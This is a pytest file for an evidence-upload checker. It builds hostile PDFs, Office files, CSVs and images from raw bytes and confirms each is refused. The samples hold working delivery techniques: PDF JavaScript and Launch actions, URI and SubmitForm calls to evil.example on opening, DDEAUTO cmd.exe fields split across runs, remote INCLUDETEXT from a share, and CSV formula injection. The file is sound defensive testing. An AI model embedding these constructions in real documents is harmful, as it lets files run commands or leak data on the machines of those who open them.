"""Hostile evidence built here from bytes: what a viewer would run, open or fetch is refused
(422 naming why, nothing stored); a LibreOffice PDF and a Word document still go in."""

from __future__ import annotations

import base64
import io
import subprocess
import zlib

import pytest

from services.evidence import checks
from tests.evidence import samples
from tests.evidence.conftest import post_file
from tests.evidence.test_checks import reason_for

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def raw_pdf(catalog: bytes, *objects: bytes, packed: bytes = b"", filters: str = "") -> bytes:
    """A PDF of a catalog (1), pages (2), a page (3) and `objects` (4...); with `packed`, one
    more object is kept in an object stream behind `filters`, reached only by an xref stream."""
    body = [
        catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    packed_number = len(body) + 2 if packed else None
    if packed:
        header = b"%d 0 " % packed_number
        body.append(
            b"<< /Type /ObjStm /N 1 /First %d /Filter [%s] /Length %d >>\nstream\n%s\nendstream"
            % (len(header), filters.encode(), *_length_and(encode(header + packed, filters)))
        )
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    if not packed:
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
        out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
        out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(body) + 1))
        return out.getvalue() + b"startxref\n%d\n%%%%EOF\n" % xref
    stream_number, xref_number = len(body), len(body) + 2
    xref = out.tell()
    rows = [b"\x00" + b"\x00" * 4 + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows += [b"\x02" + stream_number.to_bytes(4, "big") + b"\x00\x00"]
    rows += [b"\x01" + xref.to_bytes(4, "big") + b"\x00\x00"]
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
    )
    out.write(table + b"\nendstream\nendobj\n")
    return out.getvalue() + b"startxref\n%d\n%%%%EOF\n" % xref


def _length_and(data: bytes) -> tuple[int, bytes]:
    return len(data), data


def encode(data: bytes, filters: str) -> bytes:
    """Data that decodes to `data` through `filters`, applied left to right."""
    for name in reversed(filters.split()):
        if name == "/FlateDecode":
            data = zlib.compress(data)
        elif name == "/ASCIIHexDecode":
            data = data.hex().encode() + b">"
        elif name == "/ASCII85Decode":
            data = base64.a85encode(data) + b"~>"
    return data


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
XFA = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
    b'<event activity="initialize">'
    b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
    b"</template></xdp:xdp>"
)

HOSTILE_PDFS = {
    "javascript in an object stream behind chained filters": (
        raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            packed=JS,
            filters="/ASCIIHexDecode /FlateDecode",
        ),
        "javascript",
    ),
    "a launch action only the xref reaches": (
        raw_pdf(
            CATALOG,
            packed=b"<< /S /Launch /F (calc.exe) >>",
            filters="/ASCII85Decode /FlateDecode",
        ),
        "launch",
    ),
    "javascript in an XFA form": (
        raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
            samples.flate_stream(b"<< >>", XFA),
        ),
        "javascript",
    ),
    "javascript in the names tree": (
        raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
            b"<< /Names [(a) 5 0 R] >>",
            samples.flate_stream(b"<< >>", b"app.alert(1)"),
        ),
        "javascript",
    ),
    "a remote go-to link": (
        raw_pdf(CATALOG, b"<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (x.pdf) >> >>"),
        "remote-goto",
    ),
    "an embedded go-to": (
        raw_pdf(CATALOG, b"<< /S /GoToE /T << /R /C /N (a) >> >>"),
        "remote-goto",
    ),
    "a form that submits": (
        raw_pdf(CATALOG, b"<< /S /SubmitForm /F (https://evil.example/) >>"),
        "submit-form",
    ),
    "a form that imports data": (
        raw_pdf(CATALOG, b"<< /S /ImportData /F (x.fdf) >>"),
        "import-data",
    ),
    "rich media": (raw_pdf(CATALOG, b"<< /Type /Annot /Subtype /RichMedia >>"), "rich-media"),
    "a stream that does not decode": (
        raw_pdf(CATALOG, b"<< /Filter /FlateDecode /Length 9 >>\nstream\nnot-flate\nendstream"),
        "undecodable",
    ),
    "a web address opened on opening (calls home)": (
        raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /S /URI /URI (http://evil.example/opened?doc=1) >>",
        ),
        "uri",
    ),
    "a web address opened by a page's additional action": (
        raw_pdf(
            CATALOG, b"<< /Type /Page /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>"
        ),
        "uri",
    ),
    "a web address run after another action on opening": (
        raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] "
            b"/Next [4 0 R] >> >>",
            b"<< /S /URI /URI (http://evil.example/) >>",
        ),
        "uri",
    ),
    "a link to a file share (leaks the password hash)": (
        raw_pdf(
            CATALOG,
            b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (file://evil.example/s/x) >> >>",
        ),
        "uri",
    ),
    "a zip holding vbaProject.bin appended after %%EOF": (
        raw_pdf(CATALOG) + samples.zip_of({"vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}),
        "appended-data",
    ),
    "a zip appended after %%EOF and a second %%EOF after it": (
        raw_pdf(CATALOG) + samples.zip_of({"vbaProject.bin": b"vba"}) + b"\n%%EOF\n",
        "appended-data",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_PDFS))
def test_a_hostile_pdf_is_refused_naming_why(case):
    data, reason = HOSTILE_PDFS[case]
    assert reason_for(data, "evidence.pdf") == reason


def test_a_web_link_clicked_in_a_pdf_and_an_incremental_update_are_allowed():
    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://prd.go.th/) >> >>"
    updated = raw_pdf(CATALOG, link) + b"% an incremental update\n%%EOF\r\n"
    assert checks.inspect(io.BytesIO(updated), "evidence.pdf").kind == "pdf"


def docx_with(body: str, **parts: bytes) -> bytes:
    """The Word document with `body` as the content of its only paragraph's place."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()
    return samples.rezip(samples.docx_file(), {"word/document.xml": document, **parts})


def run(instruction: str) -> str:
    return f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"


def complex_field(*runs: str, nested: str = "") -> str:
    """A field of begin, its instruction split over `runs` (then a `nested` field), and end."""
    char = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
    return char.format("begin") + "".join(map(run, runs)) + nested + char.format("end")


def simple_field(instruction: str) -> str:
    return f"<w:fldSimple w:instr='{instruction}'/>"


PAGE = " PAGE \\* MERGEFORMAT"
DDEAUTO = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"
INCLUDETEXT = "INCLUDETEXT &quot;\\\\evil.example\\s\\x.docx&quot;"
INCLUDEPICTURE = "INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d"


def workbook_text_cell(text: str, inline: bool = False) -> bytes:
    """The sample workbook with cell B2 holding `text` as text (shared, or inline)."""
    xlsx = samples.xlsx_file()
    if inline:
        cell = f'<c r="B2" t="inlineStr"><is><t>{text}</t></is></c>'
        changes = {}
    else:
        cell = '<c r="B2" t="s"><v>0</v></c>'
        shared = f'<sst xmlns="{SHEET_NS}" count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'
        changes = {"xl/sharedStrings.xml": shared.encode()}
        xlsx = samples.add_content_type(
            xlsx,
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>',
        )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}"><sheetData>'
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>note</t></is></c></row>'
        f'<row r="2"><c r="A2"><v>-1.5</v></c>{cell}</row></sheetData></worksheet>'
    )
    return samples.rezip(xlsx, {"xl/worksheets/sheet1.xml": sheet.encode(), **changes})


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CMD = "=cmd|' /C calc'!A0"


ALT_CHUNK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{samples.RELS}">'
    f'<Relationship Id="rId9" Type="{samples.OFFICE_REL}/aFChunk" Target="chunk.html"/>'
    "</Relationships>"
).encode()
XLSX_DDE = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
)

HOSTILE_OFFICE = {
    "a DDEAUTO field": (
        docx_with("<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/k calc\"'/></w:p>"),
        "evidence.docx",
        "dde",
    ),
    "a DDE field split over runs": (
        docx_with("<w:p>" + run(" DD") + run("E c:\\\\cmd.exe x") + "</w:p>"),
        "evidence.docx",
        "dde",
    ),
    "an INCLUDEPICTURE of an outside address": (
        docx_with(
            "<w:p>"
            + run(" INCLUDEPIC")
            + run("TURE &quot;http://evil.example/a.png&quot;")
            + "</w:p>"
        ),
        "evidence.docx",
        "external-reference",
    ),
    "an INCLUDETEXT of a file share": (
        docx_with(
            "<w:p>" + run(" INCLUDETEXT &quot;\\\\\\\\host\\\\share\\\\a.docx&quot;") + "</w:p>"
        ),
        "evidence.docx",
        "external-reference",
    ),
    "a LINK field": (
        docx_with("<w:p>" + run(" LINK Excel.Sheet.12 &quot;C:\\\\a.xlsx&quot; Sheet1") + "</w:p>"),
        "evidence.docx",
        "external-reference",
    ),
    "an imported chunk": (
        docx_with("<w:altChunk/>", **{"word/_rels/document.xml.rels": ALT_CHUNK_RELS}),
        "evidence.docx",
        "alt-chunk",
    ),
    "an OLE package": (
        docx_with(
            '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package"/>'
            "</w:object></w:r></w:p>"
        ),
        "evidence.docx",
        "ole-package",
    ),
    "a DDE formula": (
        samples.rezip(samples.xlsx_file(), {"xl/worksheets/sheet1.xml": XLSX_DDE}),
        "evidence.xlsx",
        "dde",
    ),
    "a DDEAUTO field after a simple field ending in a letter": (
        docx_with("<w:p>" + simple_field(PAGE) + simple_field(DDEAUTO) + "</w:p>"),
        "evidence.docx",
        "dde",
    ),
    "a DDEAUTO field after a complex field ending in a letter": (
        docx_with("<w:p>" + complex_field(PAGE) + complex_field(DDEAUTO) + "</w:p>"),
        "evidence.docx",
        "dde",
    ),
    "a lower-case ddeauto split over the runs of a complex field": (
        docx_with(
            "<w:p>" + complex_field(PAGE) + complex_field(" dd", "eauto c:\\\\x.exe") + "</w:p>"
        ),
        "evidence.docx",
        "dde",
    ),
    "a DDEAUTO run after a loose run ending in a letter": (
        docx_with("<w:p>" + run(PAGE) + run(DDEAUTO) + "</w:p>"),
        "evidence.docx",
        "dde",
    ),
    "an INCLUDETEXT after a field ending in a letter": (
        docx_with("<w:p>" + simple_field(PAGE) + complex_field(INCLUDETEXT) + "</w:p>"),
        "evidence.docx",
        "external-reference",
    ),
    "an INCLUDEPICTURE after a field ending in a letter": (
        docx_with("<w:p>" + complex_field(PAGE) + simple_field(INCLUDEPICTURE) + "</w:p>"),
        "evidence.docx",
        "external-reference",
    ),
    "an IMPORT field": (
        docx_with(
            "<w:p>" + complex_field(" Import &quot;http://evil.example/a.wmf&quot;") + "</w:p>"
        ),
        "evidence.docx",
        "external-reference",
    ),
    "a DDE field inside another field": (
        docx_with("<w:p>" + complex_field(" IF 1 = 1 ", nested=complex_field(DDEAUTO)) + "</w:p>"),
        "evidence.docx",
        "dde",
    ),
    "a formula in a CSV cell": (
        f"unit,period,note\nR1,M01,ok\nR1,M02,{CMD}\n".encode(),
        "evidence.csv",
        "formula",
    ),
    "a CSV cell beginning with a tab and a formula": (
        b'unit,note\nR1,"\t=1+1"\n',
        "evidence.csv",
        "formula",
    ),
    "a shared text cell of a workbook that reads as a formula": (
        workbook_text_cell(CMD.replace("'", "&apos;")),
        "evidence.xlsx",
        "formula",
    ),
    "an inline text cell of a workbook that reads as a formula": (
        workbook_text_cell("@SUM(1+1)", inline=True),
        "evidence.xlsx",
        "formula",
    ),
}

HOSTILE_IMAGES = {
    "a zip appended after a PNG's IEND": (
        samples.png_file() + samples.zip_of({"vbaProject.bin": b"vba"}),
        "evidence.png",
        "appended-data",
    ),
    "a script appended after a JPEG's end of image": (
        samples.jpeg_file() + b"<script>alert(1)</script>",
        "evidence.jpg",
        "appended-data",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_IMAGES))
def test_an_image_with_data_after_its_end_is_refused(case):
    data, filename, reason = HOSTILE_IMAGES[case]
    assert reason_for(data, filename) == reason


@pytest.mark.parametrize("case", sorted(HOSTILE_OFFICE))
def test_a_hostile_office_file_is_refused_naming_why(case):
    data, filename, reason = HOSTILE_OFFICE[case]
    assert reason_for(data, filename) == reason


def test_ordinary_fields_and_formulas_are_allowed():
    fields = docx_with(
        "<w:p>" + run(" PAGE ") + run(" HYPERLINK &quot;https://prd.go.th&quot; ") + "</w:p>"
    )
    assert checks.inspect(io.BytesIO(fields), "evidence.docx").kind == "docx"
    complex_fields = docx_with(
        "<w:p>"
        + complex_field(PAGE)
        + complex_field(" MERGEFIELD added_value ")
        + complex_field(" HYPER", "LINK &quot;https://prd.go.th&quot; ")
        + "</w:p>"
    )
    assert checks.inspect(io.BytesIO(complex_fields), "evidence.docx").kind == "docx"
    sums = XLSX_DDE.replace(b"cmd|' /C calc'!A0", b"SUM('Sheet|1'!A1:A3)")
    workbook = samples.rezip(samples.xlsx_file(), {"xl/worksheets/sheet1.xml": sums})
    assert checks.inspect(io.BytesIO(workbook), "evidence.xlsx").kind == "xlsx"


def test_numbers_and_plain_text_in_spreadsheet_cells_are_allowed():
    csv = "unit,period,value,note\nR1,M01,-1.5,เกินงบ 1.5 %\nR1,M02,+2,a-b\nR1,M03,-,-\n".encode()
    assert checks.inspect(io.BytesIO(csv), "evidence.csv").kind == "csv"
    workbook = workbook_text_cell("งบประมาณ - ค่าใช้จ่าย")
    assert checks.inspect(io.BytesIO(workbook), "evidence.xlsx").kind == "xlsx"


@pytest.fixture(scope="module")
def libreoffice_pdf(tmp_path_factory) -> bytes:
    """A PDF as LibreOffice writes it (what most units upload), with Thai text."""
    folder = tmp_path_factory.mktemp("lo")
    (folder / "evidence.txt").write_text("หลักฐานการดำเนินงาน ตัวชี้วัด 2.1\n", encoding="utf-8")
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(folder),
            str(folder / "evidence.txt"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (folder / "evidence.pdf").read_bytes()


def test_hostile_files_are_refused_by_the_running_system_and_leave_nothing(reporter, unchanged):
    for data, filename, reason in [
        (
            *HOSTILE_PDFS["javascript in an object stream behind chained filters"][:1],
            "a.pdf",
            "javascript",
        ),
        (HOSTILE_PDFS["a remote go-to link"][0], "b.pdf", "remote-goto"),
        (HOSTILE_OFFICE["a DDEAUTO field"][0], "c.docx", "dde"),
        (HOSTILE_PDFS["a web address opened on opening (calls home)"][0], "d.pdf", "uri"),
        (
            HOSTILE_PDFS["a zip holding vbaProject.bin appended after %%EOF"][0],
            "e.pdf",
            "appended-data",
        ),
        (HOSTILE_OFFICE["a formula in a CSV cell"][0], "f.csv", "formula"),
        (
            HOSTILE_OFFICE["a DDEAUTO field after a simple field ending in a letter"][0],
            "g.docx",
            "dde",
        ),
    ]:
        with unchanged():
            resp = post_file(reporter, data, filename)
        assert (resp.status_code, resp.json().get("reason")) == (422, reason)


def test_a_libreoffice_pdf_and_a_word_document_are_accepted(reporter, libreoffice_pdf):
    for data, filename in [(libreoffice_pdf, "evidence.pdf"), (samples.docx_file(), "form.docx")]:
        resp = post_file(reporter, data, filename)
        assert resp.status_code == 201, resp.text
